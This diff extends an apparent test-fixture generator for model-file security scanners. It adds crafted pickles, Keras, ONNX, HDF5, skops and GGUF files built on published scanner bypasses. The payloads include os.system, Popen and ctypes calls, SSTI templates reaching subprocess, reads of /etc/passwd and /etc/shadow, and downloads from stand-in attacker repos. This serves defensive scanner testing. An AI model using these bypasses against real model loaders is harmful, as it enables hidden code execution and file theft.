@@ -862,6 +862,679 @@ try:
 except ImportError:
     pass
 
+# ------------------------------------------------------------------ round 2: more published bypasses
+GHSA_PS = "https://github.com/mmaitre314/picklescan/security/advisories"
+FICK_PRIV = "https://github.com/trailofbits/fickling/pull/302 (private stdlib modules)"
+# C accelerator / private stdlib modules: the public name is blocked, the C twin is not.
+case("q01_functools_c_partial.pkl",
+     p4(sg("_functools", "partial") + sg("mylib.tools", "run") + su("x") + TUPLE2 + REDUCE
+        + EMPTY_TUPLE + REDUCE),
+     "_functools.partial (C twin of functools.partial) hides the call", FICK_PRIV, "high")
+case("q02_functools_c_reduce.pkl",
+     p4(sg("_functools", "reduce") + sg("mylib.tools", "run") + EMPTY_LIST + su("a") + APPEND
+        + TUPLE2 + REDUCE),
+     "_functools.reduce calls its first argument", FICK_PRIV, "high")
+case("q03_tkinter_tcl_exec.pkl",
+     p4(sg("_tkinter", "create") + EMPTY_TUPLE + REDUCE + MEMOIZE + b"0"
+        + sg("builtins", "getattr") + binget(0) + su("eval") + TUPLE2 + REDUCE
+        + su("exec true") + TUPLE1 + REDUCE),
+     "_tkinter.create() Tcl interpreter: eval('exec true') runs a command", FICK_PRIV, "critical")
+case("q04_bootsubprocess.pkl",
+     p4(call1(sg("_bootsubprocess", "check_output"), EMPTY_LIST + TRUE + APPEND)),
+     "_bootsubprocess.check_output (CPython build helper runs a command)", FICK_PRIV, "critical")
+case("q05_testcapi.pkl",
+     p4(call1(sg("_testinternalcapi", "run_in_subinterp_with_config"), su("print(1)"))),
+     "_testinternalcapi subinterpreter run (test C API)", FICK_PRIV, "critical")
+case("q06_posixshmem.pkl", p4(call1(sg("_posixshmem", "shm_unlink"), su("/wt-x"))),
+     "_posixshmem.shm_unlink (private stdlib, touches shared memory files)", FICK_PRIV, "high")
+case("q07_pipes_template.pkl",
+     p4(sg("pipes", "Template") + EMPTY_TUPLE + REDUCE),
+     "pipes.Template runs shell pipelines", FICK + " UNSAFE_IMPORTS", "critical")
+case("q08_wsgiref_server.pkl",
+     p4(sg("wsgiref.simple_server", "make_server") + su("0.0.0.0") + b"K\x50" + NONE + b"\x87" + REDUCE),
+     "wsgiref.simple_server.make_server binds a socket", "network modules (GHSA-hgrh-qx5j-jfwx family)",
+     "critical")
+case("q09_asyncore.pkl", p4(call1(sg("asyncore", "loop"), NONE)),
+     "asyncore/asynchat/smtpd (pre-3.12 network modules)", "network modules (GHSA-hgrh-qx5j-jfwx family)",
+     "critical")
+# Native library loaders: a shared object's constructor runs at dlopen.
+case("q10_numpy_ctypeslib.pkl",
+     p4(sg("numpy.ctypeslib", "load_library") + su("libwt") + su("/tmp") + TUPLE2 + REDUCE),
+     "numpy.ctypeslib.load_library (dlopen)", "picklescan scanner.py TODO list", "critical")
+case("q11_torch_ops_load_library.pkl",
+     p4(call1(sg("torch.ops", "load_library"), su("/tmp/wt.so"))),
+     "torch.ops.load_library (dlopen a custom-op library)", "torch custom ops", "critical")
+case("q12_torch_classes_load_library.pkl",
+     p4(call1(sg("torch._classes", "classes.load_library"), su("/tmp/wt.so"))),
+     "torch._classes.classes.load_library (dlopen)", "torch custom classes", "critical")
+case("q13_torch_model_zoo.pkl",
+     p4(call1(sg("torch.utils.model_zoo", "load_url"), su("http://127.0.0.1/x.pt"))),
+     "torch.utils.model_zoo.load_url downloads and torch.loads a file", "picklescan scanner.py TODO list",
+     "critical")
+case("q14_numpy_lib_format.pkl",
+     p4(sg("numpy.lib.format", "read_array") + su("/tmp/x.npy") + b"\x88" + TUPLE2 + REDUCE),
+     "numpy.lib.format.read_array(allow_pickle=True) unpickles a file", "numpy allow_pickle", "critical")
+case("q15_numpy_fromfile_core.pkl",
+     p4(call1(sg("numpy.core.multiarray", "fromfile"), su("/etc/hostname"))),
+     "numpy.core.multiarray.fromfile (C home of numpy.fromfile)", "alias of a denied function", "high")
+case("q16_numpy_loadtxt.pkl", p4(call1(sg("numpy", "loadtxt"), su("/etc/hostname"))),
+     "numpy.loadtxt reads a file chosen by the pickle", "numpy file readers", "high")
+case("q17_torch_save.pkl",
+     p4(sg("torch", "save") + EMPTY_DICT + su("/tmp/wt-bypass.pt") + TUPLE2 + REDUCE),
+     "torch.save writes a file chosen by the pickle", "ModelAudit", "high")
+case("q18_torch_from_file.pkl",
+     p4(sg("torch", "from_file") + su("/etc/hostname") + b"\x88" + TUPLE2 + REDUCE),
+     "torch.from_file maps a file chosen by the pickle", "ModelAudit", "high")
+case("q19_pathlib_method_walk.pkl",
+     p4(sg("pathlib", "Path.write_text") + call1(sg("pathlib", "Path"), su("/tmp/wt-bypass.txt"))
+        + su("x") + TUPLE2 + REDUCE),
+     "pathlib.Path.write_text: method walk through an allowlisted class (file write)", "allowlist abuse",
+     "high")
+case("q20_numpy_tofile_walk.pkl",
+     p4(sg("numpy", "ndarray.tofile") + NONE + su("/tmp/wt-bypass.bin") + TUPLE2 + REDUCE),
+     "numpy.ndarray.tofile: method walk through an allowlisted class (file write)", "allowlist abuse",
+     "high")
+case("q21_keras_load_model.pkl",
+     p4(sg("keras.models", "load_model") + su("/tmp/x.keras") + TUPLE1 + REDUCE),
+     "keras.models.load_model loads a second model (safe_mode off inside pickles)",
+     "picklescan scanner.py TODO list", "high")
+case("q22_hf_hub_download.pkl",
+     p4(sg("huggingface_hub", "hf_hub_download") + su("attacker/repo") + su("x.pkl") + TUPLE2 + REDUCE),
+     "huggingface_hub.hf_hub_download fetches attacker files", "network download", "high")
+case("q23_transformers_remote_code.pkl",
+     p4(sg("transformers", "AutoModel.from_pretrained") + su("attacker/repo") + TUPLE1 + REDUCE),
+     "transformers AutoModel.from_pretrained (trust_remote_code downloads code)", "network download", "high")
+case("q24_logging_handler.pkl",
+     p4(call1(sg("logging.handlers", "SocketHandler"), su("127.0.0.1"))),
+     "logging.handlers.SocketHandler opens a network socket", FICK + " UNSAFE_IMPORTS", "high")
+case("q25_build_class.pkl",
+     p4(sg("builtins", "__build_class__") + NONE + su("X") + TUPLE2 + REDUCE),
+     "builtins.__build_class__ calls a function body", FICK + " GHSA-h4rm-mm56-xf63", "high")
+case("q26_object_subclasses.pkl",
+     p4(sg("builtins", "object.__subclasses__") + EMPTY_TUPLE + REDUCE),
+     "builtins.object.__subclasses__ (dunder walk from an allowlisted type)", "allowlist abuse", "high")
+case("q27_scanner_tamper.pkl",
+     p4(sg("picklescan.scanner", "_unsafe_globals.clear") + EMPTY_TUPLE + REDUCE),
+     "pickle imports a pickle scanner to disable it", "https://github.com/trailofbits/fickling/pull/249",
+     "high")
+case("q28_torch_multiprocessing.pkl",
+     p4(sg("torch.multiprocessing", "spawn") + sg("builtins", "print") + TUPLE1 + REDUCE),
+     "torch.multiprocessing.spawn starts processes", "torch", "critical")
+case("q29_syslog.pkl", p4(call1(sg("syslog", "syslog"), su("x"))),
+     "syslog (fickling UNSAFE_IMPORTS)", FICK + " UNSAFE_IMPORTS", "high")
+case("q30_torch_hub_via_nn.pkl",
+     p4(call1(sg("torch.nn.modules.module", "torch.hub.load"), su("attacker/repo"))),
+     "torch.hub.load through an allowlisted torch.nn module", "CVE-2025-10157 family", "critical")
+case("q31_zip_hidden_member.pt",
+     torch_zip([("data.pkl", SD), ("extra/config.cfg", mal)] + TENS),
+     "pickle hidden in a zip member with a non-pickle name (torch.load pickle_file=...)", "CVE-2025-1889",
+     "critical")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w", zipfile.ZIP_LZMA) as zz:
+    zz.writestr("model/data.pkl", mal)
+case("q32_zip_lzma_member.zip", zb.getvalue(), "pickle in an LZMA-compressed zip member (method 14)",
+     "zip tricks", "critical")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w", zipfile.ZIP_BZIP2) as zz:
+    zz.writestr("arr_0.npy", npy)
+case("q33_npz_bzip2.npz", zb.getvalue(), "object .npy in a bzip2-compressed npz member (np.load reads it)",
+     "numpy", "critical")
+case("q34_zip_concat.pt", torch_zip([("data.pkl", SD)] + TENS) + torch_zip([("data.pkl", mal)] + TENS),
+     "two zips concatenated: loaders read the last end-of-central-directory", "zip tricks", "critical")
+for nm, d in (("q35_descr_lt_O.npy", "'<O'"), ("q36_descr_O8.npy", "'O8'"), ("q37_descr_object_.npy", "'object_'")):
+    h_ = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % d
+    h_ += " " * (63 - (10 + len(h_)) % 64) + "\n"
+    case(nm, b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h_)) + h_.encode() + mal,
+         "object dtype spelled %s (np.dtype accepts it)" % d, "numpy descr_to_dtype", "critical")
+
+# Keras: layers that read files or URLs while the model is loaded, in safe_mode.
+def kseq(layer):
+    return {"module": "keras", "class_name": "Sequential", "config": {"name": "s", "layers": [layer]}}
+
+
+case("k13_lambda_in_activation.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
+        "module": None, "class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode(),
+                                                             "defaults": None, "closure": None}}}})),
+     "__lambda__ bytecode as a Dense activation (not a Lambda layer)", "CVE-2024-3660 variants", "critical",
+     "WT-KERAS")
+case("k14_tfsmlayer.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "TFSMLayer", "registered_name": "TFSMLayer",
+     "config": {"name": "t", "filepath": "/tmp/wt-attacker-savedmodel", "call_endpoint": "serve"}})),
+     "TFSMLayer loads an external SavedModel (its graph runs; safe_mode did not block it)",
+     "Keras GHSA TFSMLayer safe_mode bypass (keras 3.11.3)", "high", "WT-KERAS")
+for nm, cls, vocab, src in (
+        ("k15_stringlookup_vocab_file.keras", "StringLookup", "/etc/passwd", "CVE-2025-12058"),
+        ("k16_integerlookup_vocab_url.keras", "IntegerLookup", "gs://attacker-bucket/vocab.txt",
+         "CVE-2025-12058"),
+        ("k17_textvectorization_vocab.keras", "TextVectorization", "http://127.0.0.1/vocab.txt",
+         "CVE-2025-12058")):
+    case(nm, keras_zip(kseq({"module": "keras.layers", "class_name": cls, "registered_name": cls,
+                             "config": {"name": "v", "vocabulary": vocab}})),
+         "%s vocabulary is a file path / URL read at load time" % cls, src, "high", "WT-KERAS")
+case("b16_stringlookup_inline_vocab.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "StringLookup", "registered_name": "StringLookup",
+     "config": {"name": "v", "vocabulary": ["a", "b", "c"]}})),
+     "benign StringLookup with an inline vocabulary list", "control", "none", "-")
+
+# Chat templates: dunder names rebuilt with string filters.
+for nm, tpl, src in (
+        ("g14_reverse.gguf", "{{ ()|attr('__ssalc__'|reverse)|attr('__esab__'|reverse) }}",
+         "SSTI dunder built with |reverse"),
+        ("g15_replace.gguf", "{{ ()|attr('XXclassXX'|replace('X','_')) }}", "SSTI dunder built with |replace"),
+        ("g16_lower.gguf", "{{ ()|attr('__CLASS__'|lower) }}", "SSTI dunder built with |lower"),
+        ("g17_octal.gguf", "{{ ()['\\137\\137class\\137\\137'] }}", "SSTI subscript with octal escapes"),
+        ("g18_dict_keyword.gguf", "{{ ()|attr(dict(__class__=1)|first) }}",
+         "SSTI dunder taken from a dict() keyword name"),
+        ("g19_message_attr.gguf",
+         "{% for m in messages %}{{ m|attr(m['role']) }}{% endfor %}",
+         "attr() name taken from message data (runtime-chosen attribute)")):
+    case(nm, gguf([("general.architecture", "llama"), ("tokenizer.chat_template", tpl)]),
+         "GGUF chat template: " + src, "CVE-2024-34359 variants", "critical" if nm != "g19_message_attr.gguf"
+         else "high", "WT-GGUF")
+tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": ssti}).encode()
+case("g20_tokenizer_config.json", tc, "SSTI in tokenizer_config.json chat_template (transformers renders it)",
+     "CVE-2024-34359 variants", "critical", "WT-")
+tc = json.dumps({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": [
+    {"name": "default", "template": "{{ messages }}"}, {"name": "tool_use", "template": ssti}]}).encode()
+case("g21_tokenizer_config_named.json", tc,
+     "SSTI in a named chat_template list entry of tokenizer_config.json", "CVE-2024-34359 variants", "critical",
+     "WT-")
+llama3 = ("{{- bos_token }}{%- if custom_tools is defined %}{%- set tools = custom_tools %}{%- endif %}"
+          "{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}"
+          "{%- if messages[0]['role'] == 'system' %}{%- set system_message = messages[0]['content']|trim %}"
+          "{%- set messages = messages[1:] %}{%- else %}{%- set system_message = \"\" %}{%- endif %}"
+          "{{- \"<|start_header_id|>system<|end_header_id|>\\n\\n\" }}{{- system_message }}"
+          "{%- for message in messages %}{%- if not (message.role == 'ipython' or message.role == 'tool') %}"
+          "{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim"
+          " + '<|eot_id|>' }}{%- elif 'tool_calls' in message %}{%- set tool_call = message.tool_calls[0].function %}"
+          "{{- '{\"name\": \"' + tool_call.name + '\", ' }}{{- '\"parameters\": ' }}{{- tool_call.arguments | tojson }}"
+          "{%- else %}{{- raise_exception('Only user and assistant roles are supported!') }}{%- endif %}"
+          "{%- endfor %}{%- if add_generation_prompt %}"
+          "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
+case("b17_llama3_template.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", llama3)]),
+     "benign Llama-3-style chat template (tools, raise_exception, tojson, slicing)", "control", "none", "-")
+qwen = ("{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
+        "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
+        "{%- if ns.multi_step_tool and message.role == \"user\" and not(message.content.startswith('<tool_response>')) %}"
+        "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
+        "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>' + '\\n' }}"
+        "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}")
+case("b18_qwen_template.json", json.dumps({"chat_template": qwen, "eos_token": "<|im_end|>"}).encode(),
+     "benign Qwen-style template in tokenizer_config.json (namespace, startswith, reverse slice)", "control",
+     "none", "-")
+try:
+    import onnx
+    from onnx import helper, TensorProto
+    vals = ext_t("sv", "../../../etc/passwd")
+    idx = helper.make_tensor("si", TensorProto.INT64, [1], [0])
+    sp = helper.make_sparse_tensor(vals, idx, [4])
+    g_ = helper.make_graph([helper.make_node("Identity", ["s"], ["y"])], "g", [], yv)
+    g_.sparse_initializer.extend([sp])
+    g_.sparse_initializer[0].values.name = "s"
+    case("o09_external_sparse.onnx",
+         helper.make_model(g_, opset_imports=[helper.make_opsetid("", 13)]).SerializeToString(),
+         "external_data on a sparse_initializer's values", "CVE-2024-27318 variants", "high", "WT-ONNX")
+    fn = helper.make_function("custom.fn", "F", ["x"], ["y"],
+                              [helper.make_node("Constant", [], ["y"], value=ext_t("c", "/etc/shadow"))],
+                              [helper.make_opsetid("", 13)])
+    g_ = helper.make_graph([helper.make_node("F", ["x"], ["y"], domain="custom.fn")], "g",
+                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
+    case("o10_external_in_function.onnx",
+         helper.make_model(g_, functions=[fn], opset_imports=[helper.make_opsetid("", 13),
+                                                              helper.make_opsetid("custom.fn", 1)]).SerializeToString(),
+         "external_data on a tensor inside a model-local function", "CVE-2024-27318 variants", "high", "WT-ONNX")
+    gr = helper.make_graph([helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")], "g",
+                           [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])], yv)
+    case("o11_pyop_contrib.onnx",
+         helper.make_model(gr, opset_imports=[helper.make_opsetid("", 13),
+                                              helper.make_opsetid("ai.onnx.contrib", 1)]).SerializeToString(),
+         "onnxruntime-extensions ai.onnx.contrib PyOp (runs a Python function)", "onnxruntime-extensions",
+         "medium", "WT-ONNX")
+except ImportError:
+    pass
+
+
+# exec/eval gadgets in ordinary stdlib modules (not on any blocklist)
+case("q38_fx_reduce_graph_module.pkl",
+     p4(sg("torch.fx.graph_module", "reduce_graph_module") + EMPTY_DICT + su("_code")
+        + su("def forward(self):\n    return print(1)\n") + SETITEM + su("") + TUPLE2 + REDUCE),
+     "torch.fx.graph_module.reduce_graph_module exec()s stored source", "torch GraphModule pickling",
+     "critical")
+case("q39_logging_config_listen.pkl",
+     proto(2) + b"clogging.config\nlisten\nI9999\n\x85R.",
+     "logging.config.listen opens a socket that accepts configs", "ModelAudit gen_bypass_v4 poc33", "critical",
+     "WT-PICKLE", "WT-PICKLE-004")
+case("q40_linecache.pkl", proto(2) + b"clinecache\ngetline\nX\x0a\x00\x00\x00/etc/hostsI1\n\x86R.",
+     "linecache.getline reads a file", "ModelAudit gen_bypass_v4 poc32", "critical")
+case("q41_call_then_pop.pkl",
+     p4(sg("os", "system") + TRUE + TUPLE1 + REDUCE + b"0" + EMPTY_DICT),
+     "call result POPped so it never reaches the returned object", "fickling POP AST bug (ModelAudit GHSAs)",
+     "critical")
+case("q42_dataclasses_create_fn.pkl",
+     p4(sg("dataclasses", "_create_fn") + su("f") + EMPTY_LIST + su("x=print(1)") + APPEND
+        + su(" return x") + b"\x87" + REDUCE),
+     "dataclasses._create_fn exec()s source built from its arguments", "stdlib exec gadget", "critical")
+case("q43_typing_eval_type.pkl",
+     p4(sg("typing", "_eval_type") + call1(sg("typing", "ForwardRef"), su("print(1)")) + EMPTY_DICT
+        + EMPTY_DICT + b"\x87" + REDUCE),
+     "typing._eval_type(ForwardRef('print(1)')) eval()s the string", "stdlib eval gadget", "critical")
+case("q44_string_formatter.pkl",
+     p4(sg("string", "Formatter.get_field") + MARK + sg("string", "Formatter") + EMPTY_TUPLE + REDUCE
+        + su("0.__class__") + NONE + TUPLE1 + EMPTY_DICT + TUPLE + REDUCE),
+     "string.Formatter.get_field walks attributes named by a string", "attribute-walk gadget", "high")
+case("q45_pickle_as.safetensors", mal, "pickle named model.safetensors", "CVE-2025-1889 family", "critical")
+for nm, tpl_json in (
+        ("j01_config_exploit.json", {"tokenizer_class": "XLMTokenizer", "chat_template":
+                                     "{{ config.__class__.__base__.__subclasses__()[104].__init__.__globals__"
+                                     "['sys'].modules['subprocess'].call(['true']) }}", "model_max_length": 512}),
+        ("j02_request_globals.json", {"tokenizer_class": "DistilBertTokenizer", "chat_template":
+                                      "{{ request.application.__globals__.__builtins__.__import__('os')"
+                                      ".popen('true').read() }}"})):
+    case(nm, json.dumps(tpl_json, indent=2).encode(),
+         "chat_template SSTI in a JSON not named tokenizer_config.json", "ModelAudit tests/assets/samples/jinja2",
+         "critical", "WT-TEMPLATE")
+for nm, mod, fn, src in (("k18_legacy_h5_loader.keras", "keras.src.legacy.saving.legacy_h5_format",
+                          "load_model_from_hdf5", "Keras legacy loader gadget (Lambda without safe_mode)"),
+                         ("k19_model_from_json.keras", "keras.models", "model_from_json",
+                          "nested model_from_json gadget"),
+                         ("k20_extract_archive.keras", "keras.src.utils.file_utils", "extract_archive",
+                          "CVE-2025-12060 extract_archive path traversal gadget")):
+    c = kseq({"module": "keras.layers", "class_name": "Dense", "config": {
+        "units": 2, "activation": {"module": mod, "class_name": "function", "config": fn,
+                                   "registered_name": "function"}}})
+    case(nm, keras_zip(c), "Keras-internal gadget %s.%s" % (mod, fn), src, "high", "WT-KERAS")
+
+# Keras archives read with Python's zipfile: the last duplicate wins, names end at a NUL byte.
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w") as zz:
+    import warnings
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        zz.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
+        zz.writestr("config.json", json.dumps(kseq({"module": "keras.layers", "class_name": "Dense",
+                                                    "config": {"units": 2}})))
+        zz.writestr("config.json", json.dumps(cfg))
+case("k21_duplicate_config.keras", zb.getvalue(),
+     "two config.json members, benign first (zipfile reads the last)", "zip tricks", "critical", "WT-KERAS")
+zb = io.BytesIO()
+with zipfile.ZipFile(zb, "w") as zz:
+    zz.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
+    zz.writestr("config.jsonZ.txt", json.dumps(cfg))
+case("k22_nul_in_member_name.keras", zb.getvalue().replace(b"config.jsonZ.txt", b"config.json\x00.txt"),
+     "member 'config.json\\0.txt': zipfile cuts names at NUL, so keras reads it as config.json",
+     "zip tricks", "critical", "WT-KERAS")
+
+# skops (.skops = zip + schema.json): every __module__/__class__ is imported by skops.io.load
+SKS = "https://github.com/skops-dev/skops/security/advisories"
+
+
+def jn(v):
+    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(v),
+            "is_json": True}
+
+
+def skops_zip(top, extra=()):
+    zb = io.BytesIO()
+    with zipfile.ZipFile(zb, "w") as zz:
+        zz.writestr("schema.json", json.dumps(dict(top, protocol=2, _skops_version="0.10.0")))
+        for n, d in extra:
+            zz.writestr(n, d)
+    return zb.getvalue()
+
+
+def sk_obj(mod, cls, attrs):
+    return {"__class__": cls, "__module__": mod, "__loader__": "ObjectNode",
+            "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
+                        "content": attrs, "key_types": {"__class__": "list", "__module__": "builtins",
+                                                        "__loader__": "ListNode", "content": []}}}
+
+
+case("b19_sklearn.skops", skops_zip(sk_obj("sklearn.linear_model._logistic",
+                                           "LogisticRegression",
+                                           {"C": jn(1.0), "penalty": jn("l2"),
+                                            "fn": {"__class__": "sqrt", "__module__": "numpy",
+                                                   "__loader__": "FunctionNode"}})),
+     "benign skops LogisticRegression with a numpy ufunc", "control", "none", "-")
+case("s01_skops_function_os.skops",
+     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
+                      {"func": {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"}})),
+     "skops FunctionNode imports os.system (FunctionTransformer func)", SKS, "critical", "WT-SKOPS")
+case("s02_skops_operator_attrgetter.skops",
+     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
+                      {"func": {"__class__": "attrgetter", "__module__": "operator", "__loader__": "OperatorFuncNode",
+                                "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
+                                          "content": [jn("__init__.__globals__")]}}})),
+     "skops OperatorFuncNode attrgetter('__init__.__globals__')", "CVE-2025-54412", "high", "WT-SKOPS")
+case("s03_skops_operator_call.skops",
+     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
+                      {"func": {"__class__": "call", "__module__": "sklearn.utils", "__loader__": "OperatorFuncNode",
+                                "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
+                                          "content": []}}})),
+     "skops OperatorFuncNode names operator.call under a trusted-looking __module__", "CVE-2025-54412",
+     "critical", "WT-SKOPS")
+case("s04_skops_method_dunder.skops",
+     skops_zip(sk_obj("sklearn.preprocessing._function_transformer", "FunctionTransformer",
+                      {"func": {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model._logistic",
+                                "__loader__": "MethodNode",
+                                "content": {"func": "__reduce_ex__",
+                                            "obj": sk_obj("sklearn.linear_model._logistic", "LogisticRegression",
+                                                          {})}}})),
+     "skops MethodNode binds a dunder of a trusted object", "CVE-2025-54413", "high", "WT-SKOPS")
+case("s05_skops_reduce_popen.skops",
+     skops_zip({"__class__": "Popen", "__module__": "subprocess", "__loader__": "ConstructorFromReduceNode",
+                "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
+                            "content": [jn("true")]}}),
+     "skops ConstructorFromReduceNode constructs subprocess.Popen", SKS, "critical", "WT-SKOPS")
+
+# picklescan's own regression fixtures (tests/init_data_files.py), rebuilt here
+PSD = "https://github.com/mmaitre314/picklescan/blob/main/tests/init_data_files.py"
+m11 = (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vtrue\ntR.")
+case("ps01_text_memo_no_proto.pkl", m11,
+     "UNICODE + PUT/GET text memo into STACK_GLOBAL, no PROTO (imaginaryctf Safe Pickle)", PSD + " malicious11",
+     "critical")
+case("ps02_invalid_trailing_bytes.pkl", m11 + b"\n\n\t\t",
+     "same with trailing bytes after STOP", PSD + " malicious-invalid-bytes", "critical")
+case("ps03_methodcaller_pydoc_locate.pkl",
+     p4(call1(sg("operator", "methodcaller") + su("system") + TRUE + TUPLE2 + REDUCE,
+              call1(sg("pydoc", "locate"), su("os")))),
+     "methodcaller('system', cmd)(pydoc.locate('os'))", SRC + " GHSA-84r2-jw7c-4r5q", "critical")
+case("ps04_sour_pickles.pkl",
+     b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1'\nS''\nS'exec'\ntRp101\n0"
+     b"c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0"
+     b"c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.",
+     "Sour Pickles (BlackHat 2011): globals/compile/eval/getattr/apply chain", PSD + " malicious0", "critical")
+case("ps05_partial_torch_load.pkl",
+     p4(sg("functools", "partial") + sg("torch", "load") + su("/tmp/x.pt") + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE),
+     "partial(torch.load, path)() loads a second file", PSD + " malicious19", "critical")
+
+# fickling's bypass regression tests (test/test_bypasses.py), rebuilt here
+FT = "https://github.com/trailofbits/fickling/security/advisories"
+case("f01_runpy_run_path.pkl", p4(call1(sg("runpy", "run_path"), su("/tmp/wt-x.py"))),
+     "runpy.run_path", FT + " GHSA-wfq2-52f7-7qvj", "critical")
+case("f02_getattr_ctypes_cdll.pkl",
+     proto(5) + sg("builtins", "getattr") + MEMOIZE + call1(sg("ctypes", "CDLL"), su("libc.so.6"))
+     + su("system") + TUPLE2 + REDUCE + b"C\x04true" + TUPLE1 + REDUCE + STOP,
+     "getattr(ctypes.CDLL('libc'), 'system')(b'true')", FT + " GHSA-5hvc-6wx8-mvv4", "critical")
+case("f03_multiprocessing_spawnv.pkl",
+     proto(5) + sg("multiprocessing.util", "spawnv_passfds") + b"C\x07/bin/sh" + EMPTY_LIST + MARK
+     + b"C\x07/bin/sh" + b"C\x02-c" + b"C\x04true" + b"e" + EMPTY_TUPLE + b"\x87" + REDUCE + STOP,
+     "multiprocessing.util.spawnv_passfds", FT + " GHSA-q5qq-mvfm-j35x", "critical")
+case("f04_getattr_code_runsource.pkl",
+     proto(5) + sg("builtins", "getattr") + sg("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
+     + su("runsource") + TUPLE2 + REDUCE + su("print(1)") + TUPLE1 + REDUCE + STOP,
+     "getattr(code.InteractiveInterpreter(), 'runsource')(src)", FT + " GHSA-q5qq-mvfm-j35x", "critical")
+case("f05_import_getattr_text_memo.pkl",
+     b"cbuiltins\n__import__\nS'os'\n\x85Rp0\n0cbuiltins\ngetattr\ng0\nS'system'\n\x86Rp1\n0g1\nS'true'\n\x85R.",
+     "__import__ + getattr through the text memo (PUT/GET, protocol 0)", FT + " GHSA-h4rm-mm56-xf63", "critical")
+case("b20_builtins_len.pkl", b"cbuiltins\nlen\n]\x85R.", "benign builtins.len([]) (fickling control)", "control",
+     "none", "-")
+case("b21_builtins_dict.pkl", b"cbuiltins\ndict\n)R.", "benign builtins.dict() (fickling control)", "control",
+     "none", "-")
+
+# Keras HDF5 models that make h5py open other files while the weights are read
+try:
+    import h5py
+    benign_cfg = json.dumps({"class_name": "Sequential", "config": {"name": "s", "layers": [
+        {"class_name": "Dense", "config": {"name": "d", "units": 2}}]}})
+    h5p = os.path.join(OUT, "k23_h5_external_link.h5")
+    with h5py.File(h5p, "w") as hf:
+        hf.attrs["keras_version"] = "2.11.0"
+        hf.attrs["model_config"] = benign_cfg
+        mw = hf.create_group("model_weights")
+        mw["d"] = h5py.ExternalLink("/etc/passwd", "/d")
+    MANIFEST.append(("k23_h5_external_link.h5", "HDF5 external link in model_weights (h5py opens another file)",
+                     "HDF5 external links (file read)", "high", "WT-KERAS"))
+    h5p = os.path.join(OUT, "k24_h5_external_storage.h5")
+    with h5py.File(h5p, "w") as hf:
+        hf.attrs["keras_version"] = "2.11.0"
+        hf.attrs["model_config"] = benign_cfg
+        hf.create_group("model_weights").create_dataset("k", shape=(4,), dtype="u1",
+                                                        external=[("/etc/hostname", 0, 4)])
+    MANIFEST.append(("k24_h5_external_storage.h5", "HDF5 dataset stored in an external file (/etc/hostname)",
+                     "HDF5 external storage (file read)", "high", "WT-KERAS"))
+except ImportError:
+    pass
+
+case("k25_lambda_get_file_arguments.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Lambda", "registered_name": "Lambda", "config": {
+        "name": "l", "function": {"module": "keras.utils", "class_name": "function", "config": "get_file",
+                                  "registered_name": "function"},
+        "arguments": {"origin": "http://127.0.0.1/x", "fname": "/tmp/wt-bypass-x", "cache_dir": "/tmp"}}})),
+     "Lambda calling keras.utils.get_file with attacker arguments (writes a downloaded file)",
+     "CVE-2025-8747 (JFrog)", "high", "WT-KERAS")
+case("k26_lambda_func_load.keras", keras_zip(kseq(
+    {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2, "activation": {
+        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load",
+        "registered_name": "function"}}})),
+     "Keras-internal func_load (marshal + FunctionType) referenced as a function", "CVE-2025-1550 variants",
+     "high", "WT-KERAS")
+
+# Hugging Face remote code: auto_map entries of the form "org/repo--module.Class" fetch code elsewhere
+for d_ in ("h01_remote", "h02_local", "h03_pipeline"):
+    os.makedirs(os.path.join(OUT, d_), exist_ok=True)
